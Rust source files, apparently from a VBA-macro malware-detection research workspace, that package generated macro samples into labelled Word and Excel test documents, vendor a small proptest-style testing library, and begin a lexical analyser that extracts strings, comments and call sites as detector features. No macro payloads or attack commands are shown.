            let take = (remaining_macros / remaining_files.max(1))
                .max(1)
                .min(remaining_macros);
            let modules = &benign[cursor..cursor + take];
            cursor += take;
            let file = self.package(i, kind, false, modules, &mut rng);
            benign_summary.add(&file);
            visit(&file);
        }

        // Malicious: files heavily reuse macros (paper: 1,764 files share
        // 832 macros), legacy OLE containers.
        let malicious_files = self.spec.malicious_word_files + self.spec.malicious_excel_files;
        for i in 0..malicious_files {
            let kind = if i < self.spec.malicious_word_files {
                DocumentKind::WordDoc
            } else {
                DocumentKind::ExcelXls
            };
            let module = &malicious[i % malicious.len().max(1)];
            let file = self.package(i, kind, true, &[module], &mut rng);
            malicious_summary.add(&file);
            visit(&file);
        }
        (benign_summary, malicious_summary)
    }

    /// Builds every document into memory. Only sensible for scaled-down
    /// specs; use [`DocumentFactory::for_each`] at paper scale.
    pub fn build_all(&self) -> Vec<DocumentFile> {
        let mut out = Vec::new();
        self.for_each(|f| out.push(f.clone()));
        out
    }

    fn package<R: Rng + ?Sized>(
        &self,
        index: usize,
        kind: DocumentKind,
        malicious: bool,
        modules: &[&MacroSample],
        rng: &mut R,
    ) -> DocumentFile {
        let avg = if malicious {
            self.spec.malicious_avg_size
        } else {
            self.spec.benign_avg_size
        };
        // Target size ~ U(0.5·avg, 1.5·avg): mean stays at `avg`.
        let target = rng.gen_range(avg / 2..=avg + avg / 2);

        let mut project = VbaProjectBuilder::new("VBAProject");
        for (mi, module) in modules.iter().enumerate() {
            let name = if mi == 0 {
                "ThisDocument".to_string()
            } else {
                format!("Module{mi}")
            };
            project.add_module(&name, &module.source);
            if mi == 0 {
                project.document_module(&name);
            }
        }

        let bytes = match kind {
            DocumentKind::WordDoc | DocumentKind::ExcelXls => {
                let mut ole = OleBuilder::new();
                let (body_stream, vba_root) = match kind {
                    DocumentKind::WordDoc => ("WordDocument", "Macros"),
                    _ => ("Workbook", "_VBA_PROJECT_CUR"),
                };
                ole.add_stream(body_stream, &filler_bytes(rng, 8_192))
                    .expect("valid stream name");
                project
                    .write_into(&mut ole, vba_root)
                    .expect("valid module names");
                // Pad with an embedded-data stream to the target size.
                let base = ole.build().len();
                let pad = target.saturating_sub(base + 4096);
                if pad > 0 {
                    ole.add_stream("Data", &filler_bytes(rng, pad))
                        .expect("valid name");
                }
                ole.build()
            }
            DocumentKind::WordDocm | DocumentKind::ExcelXlsm => {
                let vba_bin = project.build().expect("valid module names");
                let (dir, body) = match kind {
                    DocumentKind::WordDocm => ("word", "document.xml"),
                    _ => ("xl", "workbook.xml"),
                };
                let mut zip = ZipWriter::new();
                zip.add_file(
                    "[Content_Types].xml",
                    content_types(dir).as_bytes(),
                    CompressionMethod::Deflate,
                )
                .expect("small member");
                zip.add_file(
                    &format!("{dir}/{body}"),
                    b"<?xml version=\"1.0\"?><document/>",
                    CompressionMethod::Deflate,
                )
                .expect("small member");
                zip.add_file(
                    &format!("{dir}/vbaProject.bin"),
                    &vba_bin,
                    CompressionMethod::Deflate,
                )
                .expect("vba project member");
                // Media padding (stored: incompressible, keeps target size).
                let base: usize = 4096 + vba_bin.len() / 2;
                let pad = target.saturating_sub(base);
                if pad > 0 {
                    zip.add_file(
                        &format!("{dir}/media/image1.bin"),
                        &filler_bytes(rng, pad),
                        CompressionMethod::Stored,
                    )
                    .expect("padding member");
                }
                zip.finish()
            }
        };

        let class = if malicious { "malicious" } else { "benign" };
        DocumentFile {
            name: format!("{class}_{index:04}.{}", kind.extension()),
            kind,
            malicious,
            bytes,
            module_count: modules.len(),
        }
    }
}

/// Pseudo-random (incompressible) filler simulating embedded media/content.
fn filler_bytes<R: Rng + ?Sized>(rng: &mut R, len: usize) -> Vec<u8> {
    let mut buf = vec![0u8; len];
    rng.fill(&mut buf[..]);
    buf
}

fn content_types(dir: &str) -> String {
    format!(
        "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\
         <Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">\
         <Default Extension=\"xml\" ContentType=\"application/xml\"/>\
         <Override PartName=\"/{dir}/vbaProject.bin\" \
         ContentType=\"application/vnd.ms-office.vbaProject\"/></Types>"
    )
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::generate_macros;

    fn tiny() -> CorpusSpec {
        CorpusSpec::paper().scaled(0.01).with_seed(7)
    }

    #[test]
    fn file_counts_match_spec() {
        let spec = tiny();
        let macros = generate_macros(&spec);
        let factory = DocumentFactory::new(&spec, &macros);
        let mut count = 0usize;
        let (benign, malicious) = factory.for_each(|_| count += 1);
        assert_eq!(count, spec.total_files());
        assert_eq!(
            benign.files,
            spec.benign_word_files + spec.benign_excel_files
        );
        assert_eq!(benign.word, spec.benign_word_files);
        assert_eq!(malicious.excel, spec.malicious_excel_files);
    }

    #[test]
    fn sizes_track_spec_averages() {
        let spec = tiny();
        let macros = generate_macros(&spec);
        let (benign, malicious) = DocumentFactory::new(&spec, &macros).for_each(|_| {});
        let b = benign.avg_size();
        let m = malicious.avg_size();
        assert!(
            (b - spec.benign_avg_size as f64).abs() / spec.benign_avg_size as f64 > -1.0,
            "sanity"
        );
        // Within 50% of target average (coarse: small n).
        assert!(
            (b / spec.benign_avg_size as f64) > 0.5 && (b / spec.benign_avg_size as f64) < 1.6,
            "benign avg {b}"
        );
        assert!(
            (m / spec.malicious_avg_size as f64) > 0.4
                && (m / spec.malicious_avg_size as f64) < 1.8,
            "malicious avg {m}"
        );
    }

    #[test]
    fn every_document_yields_its_macros_back() {
        let spec = tiny();
        let macros = generate_macros(&spec);
        let files = DocumentFactory::new(&spec, &macros).build_all();
        for file in &files {
            let extracted = extract_all(&file.bytes, file.kind);
            assert_eq!(
                extracted.len(),
                file.module_count,
                "{}: expected {} modules",
                file.name,
                file.module_count
            );
            for code in &extracted {
                assert!(!code.is_empty());
            }
        }
    }

    fn extract_all(bytes: &[u8], kind: DocumentKind) -> Vec<String> {
        let ole_bytes = match kind {
            DocumentKind::WordDoc | DocumentKind::ExcelXls => bytes.to_vec(),
            DocumentKind::WordDocm => {
                let zip = vbadet_zip::ZipArchive::parse(bytes).unwrap();
                zip.read_file("word/vbaProject.bin").unwrap()
            }
            DocumentKind::ExcelXlsm => {
                let zip = vbadet_zip::ZipArchive::parse(bytes).unwrap();
                zip.read_file("xl/vbaProject.bin").unwrap()
            }
        };
        let ole = vbadet_ole::OleFile::parse(&ole_bytes).unwrap();
        let project = vbadet_ovba::VbaProject::from_ole(&ole).unwrap();
        project.modules.into_iter().map(|m| m.code).collect()
    }

    #[test]
    fn benign_macros_are_all_distributed() {
        let spec = tiny();
        let macros = generate_macros(&spec);
        let files = DocumentFactory::new(&spec, &macros).build_all();
        let distributed: usize = files
            .iter()
            .filter(|f| !f.malicious)
            .map(|f| f.module_count)
            .sum();
        assert_eq!(distributed, spec.benign_macros);
    }

    #[test]
    fn malicious_files_reuse_macros() {
        let spec = tiny();
        let macros = generate_macros(&spec);
        let files = DocumentFactory::new(&spec, &macros).build_all();
        let malicious_files = files.iter().filter(|f| f.malicious).count();
        assert!(
            malicious_files > spec.malicious_macros,
            "files outnumber unique macros"
        );
    }

    #[test]
    fn deterministic_given_seed() {
        let spec = tiny();
        let macros = generate_macros(&spec);
        let a = DocumentFactory::new(&spec, &macros).build_all();
        let b = DocumentFactory::new(&spec, &macros).build_all();
        assert_eq!(a.len(), b.len());
        for (x, y) in a.iter().zip(&b) {
            assert_eq!(x.bytes, y.bytes, "{}", x.name);
        }
    }
}
