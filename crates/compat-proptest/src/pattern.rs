//! Generator for proptest's regex-literal string strategies.
//!
//! Supports the subset this workspace's tests use:
//! - literal characters (control chars arrive pre-unescaped by the Rust
//!   lexer, so they are just chars here)
//! - character classes `[..]` with ranges, a trailing literal `-`, and the
//!   `&&[^..]` intersection-with-negation form
//! - groups `(..)`
//! - `{m,n}` / `{n}` repetition on any atom
//! - `\PC` (any printable character)
//!
//! Anchors, alternation and full Unicode categories are not implemented;
//! an unsupported construct panics with the offending pattern so the gap
//! is loud rather than silently mis-generated.

use super::TestRng;

enum Node {
    Lit(char),
    Class(Vec<char>),
    Group(Vec<(Node, (u32, u32))>),
    Printable,
}

/// Generates one string matching `pattern`.
pub fn generate(pattern: &str, rng: &mut TestRng) -> String {
    let chars: Vec<char> = pattern.chars().collect();
    let mut pos = 0usize;
    let seq = parse_seq(&chars, &mut pos, pattern, false);
    if pos != chars.len() {
        panic!("unsupported regex construct at byte {pos} in pattern {pattern:?}");
    }
    let mut out = String::new();
    emit_seq(&seq, rng, &mut out);
    out
}

fn emit_seq(seq: &[(Node, (u32, u32))], rng: &mut TestRng, out: &mut String) {
    for (node, (lo, hi)) in seq {
        let n = if lo == hi {
            *lo
        } else {
            lo + rng.below((hi - lo + 1) as usize) as u32
        };
        for _ in 0..n {
            match node {
                Node::Lit(c) => out.push(*c),
                Node::Class(set) => out.push(set[rng.below(set.len())]),
                Node::Group(inner) => emit_seq(inner, rng, out),
                Node::Printable => out.push(printable(rng)),
            }
        }
    }
}

/// Mostly printable ASCII, occasionally a multibyte printable char, so
/// consumers see UTF-8 boundaries without drowning in exotic input.
fn printable(rng: &mut TestRng) -> char {
    const EXTRA: &[char] = &['é', 'ß', 'Ж', '中', '☃', '€', '𝛼'];
    if rng.below(10) < 9 {
        (b' ' + rng.below(95) as u8) as char
    } else {
        EXTRA[rng.below(EXTRA.len())]
    }
}

fn parse_seq(
    chars: &[char],
    pos: &mut usize,
    pat: &str,
    in_group: bool,
) -> Vec<(Node, (u32, u32))> {
    let mut seq = Vec::new();
    while *pos < chars.len() {
        let node = match chars[*pos] {
            ')' if in_group => break,
            '[' => {
                *pos += 1;
                Node::Class(parse_class(chars, pos, pat))
            }
            '(' => {
                *pos += 1;
                let inner = parse_seq(chars, pos, pat, true);
                if *pos >= chars.len() || chars[*pos] != ')' {
                    panic!("unclosed group in pattern {pat:?}");
                }
                *pos += 1;
                Node::Group(inner)
            }
            '\\' => {
                if chars[*pos..].starts_with(&['\\', 'P', 'C']) {
                    *pos += 3;
                    Node::Printable
                } else if *pos + 1 < chars.len() {
                    *pos += 2;
                    Node::Lit(chars[*pos - 1])
                } else {
                    panic!("trailing backslash in pattern {pat:?}");
                }
            }
            c @ ('*' | '+' | '?' | '|' | '^' | '$') => {
                panic!("unsupported regex operator {c:?} in pattern {pat:?}")
            }
            c => {
                *pos += 1;
                Node::Lit(c)
            }
        };
        let reps = parse_repeat(chars, pos, pat);
        seq.push((node, reps));
    }
    seq
}

fn parse_repeat(chars: &[char], pos: &mut usize, pat: &str) -> (u32, u32) {
    if *pos >= chars.len() || chars[*pos] != '{' {
        return (1, 1);
    }
    let close = chars[*pos..]
        .iter()
        .position(|&c| c == '}')
        .unwrap_or_else(|| panic!("unclosed repetition in pattern {pat:?}"));
    let body: String = chars[*pos + 1..*pos + close].iter().collect();
    *pos += close + 1;
    let parse = |s: &str| {
        s.parse::<u32>()
            .unwrap_or_else(|_| panic!("bad repetition {body:?} in pattern {pat:?}"))
    };
    match body.split_once(',') {
        Some((lo, hi)) => (parse(lo.trim()), parse(hi.trim())),
        None => {
            let n = parse(body.trim());
            (n, n)
        }
    }
}

/// Parses a class body after the opening `[`; consumes the closing `]`.
fn parse_class(chars: &[char], pos: &mut usize, pat: &str) -> Vec<char> {
    let mut include = parse_class_items(chars, pos, pat, &mut |chars, pos, pat, set| {
        // `&&[^..]` intersection with a negated class: collect exclusions
        // and subtract.
        if chars[*pos..].starts_with(&['&', '&', '[', '^']) {
            *pos += 4;
            let excl = parse_class_items(chars, pos, pat, &mut |_, _, _, _| false);
            set.retain(|c| !excl.contains(c));
            true
        } else {
            false
        }
    });
    if include.is_empty() {
        panic!("empty character class in pattern {pat:?}");
    }
    include.sort_unstable();
    include.dedup();
    include
}

/// Hook signature for [`parse_class_items`]: (chars, pos, pattern, set) →
/// whether the hook consumed input.
type ClassItemHook<'a> = &'a mut dyn FnMut(&[char], &mut usize, &str, &mut Vec<char>) -> bool;

/// Parses range/literal items until the matching `]` (consumed). The
/// `special` hook gets a chance to handle intersection syntax; it returns
/// true when it consumed something.
fn parse_class_items(
    chars: &[char],
    pos: &mut usize,
    pat: &str,
    special: ClassItemHook<'_>,
) -> Vec<char> {
    let mut set = Vec::new();
    loop {
        if *pos >= chars.len() {
            panic!("unclosed character class in pattern {pat:?}");
        }
        if chars[*pos] == ']' {
            *pos += 1;
            return set;
        }
        if special(chars, pos, pat, &mut set) {
            continue;
        }
        let c = if chars[*pos] == '\\' && *pos + 1 < chars.len() {
            *pos += 2;
            chars[*pos - 1]
        } else {
            *pos += 1;
            chars[*pos - 1]
        };
        // `c-d` range, unless `-` is the final char before `]` (literal)
        // or starts the `&&` intersection.
        if *pos + 1 < chars.len()
            && chars[*pos] == '-'
            && chars[*pos + 1] != ']'
            && chars[*pos + 1] != '&'
        {
            let hi = chars[*pos + 1];
            *pos += 2;
            if (c as u32) > (hi as u32) {
                panic!("inverted range {c:?}-{hi:?} in pattern {pat:?}");
            }
            for v in (c as u32)..=(hi as u32) {
                if let Some(ch) = char::from_u32(v) {
                    set.push(ch);
                }
            }
        } else {
            set.push(c);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn gen(pat: &str, label: &str) -> String {
        let mut rng = TestRng::deterministic(label);
        generate(pat, &mut rng)
    }

    #[test]
    fn class_with_intersection_excludes_chars() {
        for i in 0..300 {
            let s = gen("[ -~&&[^\"]]{0,60}", &format!("x{i}"));
            assert!(!s.contains('"'), "{s:?}");
            assert!(s.chars().all(|c| (' '..='~').contains(&c)));
        }
        for i in 0..300 {
            let s = gen("[ -~&&[^\r\n]]{1,60}", &format!("y{i}"));
            assert!(!s.contains('\r') && !s.contains('\n'), "{s:?}");
        }
    }

    #[test]
    fn trailing_dash_is_literal() {
        let mut seen_dash = false;
        for i in 0..500 {
            let s = gen("[a-zA-Z0-9 ._/:-]{4,40}", &format!("d{i}"));
            assert!((4..=40).contains(&s.chars().count()));
            seen_dash |= s.contains('-');
            assert!(s
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || " ._/:-".contains(c)));
        }
        assert!(seen_dash, "trailing - never generated as a literal");
    }

    #[test]
    fn unicode_literals_in_class() {
        let mut seen_unicode = false;
        for i in 0..500 {
            let s = gen("[ -~\r\n\t\u{00e9}\u{2603}]{0,80}", &format!("u{i}"));
            seen_unicode |= s.contains('\u{00e9}') || s.contains('\u{2603}');
        }
        assert!(seen_unicode);
    }

    #[test]
    fn exact_repetition_count() {
        let s = gen("[a-f]{8}", "exact");
        assert_eq!(s.len(), 8);
    }

    #[test]
    fn groups_nest_and_repeat() {
        for i in 0..200 {
            let s = gen(
                "[A-Za-z][A-Za-z0-9_]{0,14}(/[A-Za-z][A-Za-z0-9_]{0,14}){0,2}",
                &format!("g{i}"),
            );
            let segs: Vec<&str> = s.split('/').collect();
            assert!((1..=3).contains(&segs.len()), "{s:?}");
            for seg in segs {
                assert!(seg.chars().next().unwrap().is_ascii_alphabetic(), "{s:?}");
                assert!(seg.len() <= 15);
            }
        }
    }

    #[test]
    #[should_panic(expected = "unsupported regex operator")]
    fn alternation_is_loudly_rejected() {
        gen("a|b", "alt");
    }
}
