//! Offline drop-in subset of the `proptest` API.
//!
//! The build environment has no crates.io access, so the workspace vendors
//! the slice of proptest its tests use: the [`proptest!`] macro, string
//! strategies from a regex-like pattern, [`collection::vec`], [`any`],
//! tuples, ranges, [`Just`], `prop_oneof!`, `prop_assert*!` and
//! [`prop_assume!`].
//!
//! Semantics differ from upstream in one deliberate way: there is **no
//! shrinking** — a failing case panics with the generated inputs via the
//! normal assert message. Generation is deterministic per test name, so
//! failures reproduce.

use std::ops::{Range, RangeInclusive};

mod pattern;

/// Deterministic generator driving all strategies (SplitMix64).
#[derive(Debug, Clone)]
pub struct TestRng {
    state: u64,
}

impl TestRng {
    /// Seeds the generator from an arbitrary label (e.g. the test name).
    pub fn deterministic(label: &str) -> Self {
        // FNV-1a over the label, so each test gets a stable distinct stream.
        let mut h = 0xcbf2_9ce4_8422_2325u64;
        for b in label.bytes() {
            h ^= b as u64;
            h = h.wrapping_mul(0x1000_0000_01b3);
        }
        TestRng { state: h }
    }

    /// Next 64 random bits.
    pub fn next_u64(&mut self) -> u64 {
        self.state = self.state.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.state;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }

    /// Uniform `usize` in `[0, bound)`; `bound` must be nonzero.
    pub fn below(&mut self, bound: usize) -> usize {
        debug_assert!(bound > 0);
        (self.next_u64() % bound as u64) as usize
    }

    /// Uniform `f64` in `[0, 1)`.
    pub fn unit(&mut self) -> f64 {
        (self.next_u64() >> 11) as f64 * (1.0 / (1u64 << 53) as f64)
    }
}

/// Run configuration for a `proptest!` block.
#[derive(Debug, Clone)]
pub struct ProptestConfig {
    /// Number of generated cases per test.
    pub cases: u32,
}

impl ProptestConfig {
    /// Config with an explicit case count.
    pub fn with_cases(cases: u32) -> Self {
        ProptestConfig { cases }
    }
}

impl Default for ProptestConfig {
    fn default() -> Self {
        ProptestConfig { cases: 64 }
    }
}

/// A value generator. Unlike upstream there is no shrinking: a strategy is
/// just a deterministic-from-rng generation rule.
pub trait Strategy {
    /// The generated type.
    type Value;

    /// Generates one value.
    fn generate(&self, rng: &mut TestRng) -> Self::Value;
}

impl<S: Strategy + ?Sized> Strategy for &S {
    type Value = S::Value;
    fn generate(&self, rng: &mut TestRng) -> Self::Value {
        (**self).generate(rng)
    }
}

impl<S: Strategy + ?Sized> Strategy for Box<S> {
    type Value = S::Value;
    fn generate(&self, rng: &mut TestRng) -> Self::Value {
        (**self).generate(rng)
    }
}

/// String strategy from a regex-like pattern (see [`pattern`] for the
/// supported subset: literals, classes, groups, `{m,n}` repetition, `\PC`).
impl Strategy for str {
    type Value = String;
    fn generate(&self, rng: &mut TestRng) -> String {
        pattern::generate(self, rng)
    }
}

/// A strategy that always yields a clone of the given value.
#[derive(Debug, Clone)]
pub struct Just<T: Clone>(pub T);

impl<T: Clone> Strategy for Just<T> {
    type Value = T;
    fn generate(&self, _rng: &mut TestRng) -> T {
        self.0.clone()
    }
}

/// Uniform choice between boxed strategies (the `prop_oneof!` backend).
pub struct Union<V> {
    arms: Vec<Box<dyn Strategy<Value = V>>>,
}

impl<V> Union<V> {
    /// Builds a union; `arms` must be non-empty.
    pub fn new(arms: Vec<Box<dyn Strategy<Value = V>>>) -> Self {
        assert!(!arms.is_empty(), "prop_oneof! needs at least one arm");
        Union { arms }
    }
}

impl<V> Strategy for Union<V> {
    type Value = V;
    fn generate(&self, rng: &mut TestRng) -> V {
        let i = rng.below(self.arms.len());
        self.arms[i].generate(rng)
    }
}

/// Boxes a strategy as a trait object (used by `prop_oneof!` so arm types
/// unify).
pub fn boxed<S>(s: S) -> Box<dyn Strategy<Value = S::Value>>
where
    S: Strategy + 'static,
{
    Box::new(s)
}

macro_rules! impl_range_strategy_int {
    ($($t:ty),*) => {$(
        impl Strategy for Range<$t> {
            type Value = $t;
            fn generate(&self, rng: &mut TestRng) -> $t {
                let lo = self.start as i128;
                let hi = self.end as i128;
                assert!(lo < hi, "empty range strategy");
                (lo + (rng.next_u64() as u128 % (hi - lo) as u128) as i128) as $t
            }
        }
        impl Strategy for RangeInclusive<$t> {
            type Value = $t;
            fn generate(&self, rng: &mut TestRng) -> $t {
                let lo = *self.start() as i128;
                let hi = *self.end() as i128;
                assert!(lo <= hi, "empty range strategy");
                (lo + (rng.next_u64() as u128 % (hi - lo + 1) as u128) as i128) as $t
            }
        }
    )*};
}
impl_range_strategy_int!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize);

macro_rules! impl_range_strategy_float {
    ($($t:ty),*) => {$(
        impl Strategy for Range<$t> {
            type Value = $t;
            fn generate(&self, rng: &mut TestRng) -> $t {
                self.start + (rng.unit() as $t) * (self.end - self.start)
            }
        }
    )*};
}
impl_range_strategy_float!(f32, f64);

macro_rules! impl_tuple_strategy {
    ($($name:ident),+) => {
        impl<$($name: Strategy),+> Strategy for ($($name,)+) {
            type Value = ($($name::Value,)+);
            #[allow(non_snake_case)]
            fn generate(&self, rng: &mut TestRng) -> Self::Value {
                let ($($name,)+) = self;
                ($($name.generate(rng),)+)
            }
        }
    };
}
impl_tuple_strategy!(A);
impl_tuple_strategy!(A, B);
impl_tuple_strategy!(A, B, C);
impl_tuple_strategy!(A, B, C, D);
impl_tuple_strategy!(A, B, C, D, E);
impl_tuple_strategy!(A, B, C, D, E, F);

/// Types with a default "any value" strategy.
pub trait Arbitrary: Sized {
    /// Generates one arbitrary value.
    fn arbitrary(rng: &mut TestRng) -> Self;
}

macro_rules! impl_arbitrary_int {
    ($($t:ty),*) => {$(
        impl Arbitrary for $t {
            fn arbitrary(rng: &mut TestRng) -> $t {
                rng.next_u64() as $t
            }
        }
    )*};
}
impl_arbitrary_int!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize);

impl Arbitrary for bool {
    fn arbitrary(rng: &mut TestRng) -> bool {
        rng.next_u64() & 1 == 1
    }
}

impl Arbitrary for f64 {
    fn arbitrary(rng: &mut TestRng) -> f64 {
        // Mix of finite magnitudes; avoids NaN/inf which upstream also
        // excludes by default.
        let m = rng.unit() * 2.0 - 1.0;
        let e = (rng.below(41) as i32) - 20;
        m * 10f64.powi(e)
    }
}

/// Strategy produced by [`any`].
pub struct Any<T> {
    _marker: std::marker::PhantomData<T>,
}

impl<T: Arbitrary> Strategy for Any<T> {
    type Value = T;
    fn generate(&self, rng: &mut TestRng) -> T {
        T::arbitrary(rng)
    }
}

/// The default strategy for `T`.
pub fn any<T: Arbitrary>() -> Any<T> {
    Any {
        _marker: std::marker::PhantomData,
    }
}

/// Collection strategies.
pub mod collection {
    use super::{Strategy, TestRng};
    use std::ops::Range;

    /// Strategy for `Vec<S::Value>` with length drawn from a range.
    pub struct VecStrategy<S> {
        element: S,
        len: Range<usize>,
    }

    /// Vector of `element` values with length in `len`.
    pub fn vec<S: Strategy>(element: S, len: Range<usize>) -> VecStrategy<S> {
        assert!(len.start < len.end, "empty length range");
        VecStrategy { element, len }
    }

    impl<S: Strategy> Strategy for VecStrategy<S> {
        type Value = Vec<S::Value>;
        fn generate(&self, rng: &mut TestRng) -> Vec<S::Value> {
            let span = self.len.end - self.len.start;
            let n = self.len.start + rng.below(span.max(1));
            (0..n).map(|_| self.element.generate(rng)).collect()
        }
    }
}

/// Character strategies.
pub mod char {
    use super::{Strategy, TestRng};

    /// Strategy for a char in an inclusive range.
    pub struct CharRange {
        lo: u32,
        hi: u32,
    }

    /// Uniform char between `lo` and `hi` (inclusive).
    pub fn range(lo: ::core::primitive::char, hi: ::core::primitive::char) -> CharRange {
        assert!(lo <= hi);
        CharRange {
            lo: lo as u32,
            hi: hi as u32,
        }
    }

    impl Strategy for CharRange {
        type Value = ::core::primitive::char;
        fn generate(&self, rng: &mut TestRng) -> ::core::primitive::char {
            // Resample on the (rare) surrogate gap.
            loop {
                let v = self.lo + rng.below((self.hi - self.lo + 1) as usize) as u32;
                if let Some(c) = ::core::primitive::char::from_u32(v) {
                    return c;
                }
            }
        }
    }
}

/// Everything tests normally import.
pub mod prelude {
    pub use crate::{
        any, prop_assert, prop_assert_eq, prop_assert_ne, prop_assume, prop_oneof, proptest, Just,
        ProptestConfig, Strategy,
    };
}

/// The test-defining macro. Each `fn name(arg in strategy, ...) { body }`
/// becomes a `#[test]` running `body` for `config.cases` generated inputs.
#[macro_export]
macro_rules! proptest {
    (#![proptest_config($cfg:expr)] $($rest:tt)*) => {
        $crate::proptest!(@with ($cfg); $($rest)*);
    };
    (@with ($cfg:expr); $($(#[$meta:meta])* fn $name:ident($($pat:pat_param in $strat:expr),+ $(,)?) $body:block)*) => {
        $(
            $(#[$meta])*
            fn $name() {
                let config: $crate::ProptestConfig = $cfg;
                let mut rng = $crate::TestRng::deterministic(concat!(module_path!(), "::", stringify!($name)));
                for _case in 0..config.cases {
                    // Closure so prop_assume! can skip a case via `return`.
                    #[allow(clippy::redundant_closure_call)]
                    (|| {
                        $(let $pat = $crate::Strategy::generate(&($strat), &mut rng);)+
                        $body
                    })();
                }
            }
        )*
    };
    ($($rest:tt)*) => {
        $crate::proptest!(@with ($crate::ProptestConfig::default()); $($rest)*);
    };
}

/// Assert inside a proptest case.
#[macro_export]
macro_rules! prop_assert {
    ($($args:tt)*) => { assert!($($args)*) };
}

/// Assert equality inside a proptest case.
#[macro_export]
macro_rules! prop_assert_eq {
    ($($args:tt)*) => { assert_eq!($($args)*) };
}

/// Assert inequality inside a proptest case.
#[macro_export]
macro_rules! prop_assert_ne {
    ($($args:tt)*) => { assert_ne!($($args)*) };
}

/// Skip the current case when an assumption does not hold.
#[macro_export]
macro_rules! prop_assume {
    ($cond:expr) => {
        if !($cond) {
            return;
        }
    };
    ($cond:expr, $($fmt:tt)*) => {
        if !($cond) {
            return;
        }
    };
}

/// Uniform choice among strategies yielding the same value type.
#[macro_export]
macro_rules! prop_oneof {
    ($($strat:expr),+ $(,)?) => {
        $crate::Union::new(vec![$($crate::boxed($strat)),+])
    };
}

#[cfg(test)]
mod tests {
    use crate::prelude::*;

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(32))]

        #[test]
        fn ranges_and_vecs(x in 3usize..10, v in crate::collection::vec(any::<u8>(), 2..5)) {
            prop_assert!((3..10).contains(&x));
            prop_assert!((2..5).contains(&v.len()));
        }

        /// Doc comments and mut patterns are accepted.
        #[test]
        fn mut_pattern_and_tuples(mut t in (0u32..5, "[a-z]{2,4}"), flag in any::<bool>()) {
            t.0 += 1;
            prop_assert!((1..=5).contains(&t.0));
            prop_assert!((2..=4).contains(&t.1.len()));
            prop_assert!(t.1.bytes().all(|b| b.is_ascii_lowercase()));
            let _ = flag;
        }

        #[test]
        fn oneof_and_just(v in prop_oneof![Just(1u8), Just(7u8)], c in crate::char::range('a', 'f')) {
            prop_assert!(v == 1 || v == 7);
            prop_assert!(('a'..='f').contains(&c));
        }

        #[test]
        fn assume_skips(n in 0u32..10) {
            prop_assume!(n < 5);
            prop_assert!(n < 5);
        }
    }

    proptest! {
        #[test]
        fn default_config_block(n in 0u8..4) {
            prop_assert!(n < 4);
        }
    }

    #[test]
    fn patterns_generate_expected_shapes() {
        let mut rng = crate::TestRng::deterministic("shapes");
        for _ in 0..200 {
            let s = crate::Strategy::generate("[A-Za-z][A-Za-z0-9_]{0,14}", &mut rng);
            assert!((1..=15).contains(&s.chars().count()), "{s:?}");
            assert!(s.chars().next().unwrap().is_ascii_alphabetic());

            let p = crate::Strategy::generate("[a-z]{1,12}(/[a-z]{1,12}){0,2}", &mut rng);
            assert!(p.split('/').count() <= 3, "{p:?}");
            assert!(p.split('/').all(|seg| !seg.is_empty()), "{p:?}");

            let t = crate::Strategy::generate("[ -~\r\n\t]{0,40}", &mut rng);
            assert!(t.chars().count() <= 40);
            assert!(t
                .chars()
                .all(|c| c == '\r' || c == '\n' || c == '\t' || (' '..='~').contains(&c)));

            let any_printable = crate::Strategy::generate("\\PC{0,20}", &mut rng);
            assert!(any_printable.chars().count() <= 20);

            let lit = crate::Strategy::generate("[a-z]{1,8} = [0-9]{1,5}", &mut rng);
            assert!(lit.contains(" = "), "{lit:?}");
        }
    }

    #[test]
    fn deterministic_per_label() {
        let mut a = crate::TestRng::deterministic("same");
        let mut b = crate::TestRng::deterministic("same");
        let s: &str = "[0-9a-f]{8}";
        assert_eq!(
            crate::Strategy::generate(s, &mut a),
            crate::Strategy::generate(s, &mut b)
        );
    }
}
