//! Derived views over a token stream: the quantities the feature extractors
//! consume (identifiers, strings, comments, call sites, "words", operator
//! counts).

use crate::functions;
use crate::lexer::tokenize;
use crate::token::{Token, TokenKind};
use std::collections::BTreeSet;

/// Lexical analysis of one macro: the token stream plus the derived
/// quantities used by the V and J feature sets.
///
/// ```
/// use vbadet_vba::MacroAnalysis;
/// let a = MacroAnalysis::new("Sub F()\r\n    p = \"x\" & Chr(66)\r\nEnd Sub\r\n");
/// assert_eq!(a.strings(), vec!["x"]);
/// assert!(a.call_sites().iter().any(|c| *c == "Chr"));
/// ```
#[derive(Debug, Clone)]
pub struct MacroAnalysis {
    source: String,
    tokens: Vec<Token>,
}

impl MacroAnalysis {
    /// Tokenizes `source` and prepares derived views.
    pub fn new(source: &str) -> Self {
        MacroAnalysis {
            source: source.to_string(),
            tokens: tokenize(source),
        }
    }

    /// The original source code.
    pub fn source(&self) -> &str {
        &self.source
    }

    /// The raw token stream.
    pub fn tokens(&self) -> &[Token] {
        &self.tokens
    }

    /// Total source length in characters.
    pub fn char_len(&self) -> usize {
        self.source.chars().count()
    }

    /// Number of characters inside comments (without the `'`/`Rem` marker).
    pub fn comment_chars(&self) -> usize {
        self.comments().iter().map(|c| c.chars().count()).sum()
    }

    /// Number of characters outside comments.
    pub fn code_chars(&self) -> usize {
        // Comment spans include the marker; subtract whole spans.
        let in_comments: usize = self
            .tokens
            .iter()
            .filter(|t| matches!(t.kind, TokenKind::Comment(_)))
            .map(|t| self.source[t.start..t.end].chars().count())
            .sum();
        self.char_len().saturating_sub(in_comments)
    }

    /// All comment bodies, in order.
    pub fn comments(&self) -> Vec<&str> {
        self.tokens
            .iter()
            .filter_map(|t| match &t.kind {
                TokenKind::Comment(c) => Some(c.as_str()),
                _ => None,
            })
            .collect()
    }

    /// All string literal values, in order.
    pub fn strings(&self) -> Vec<&str> {
        self.tokens
            .iter()
            .filter_map(|t| match &t.kind {
                TokenKind::StringLit(s) => Some(s.as_str()),
                _ => None,
            })
            .collect()
    }

    /// Total characters inside string literals.
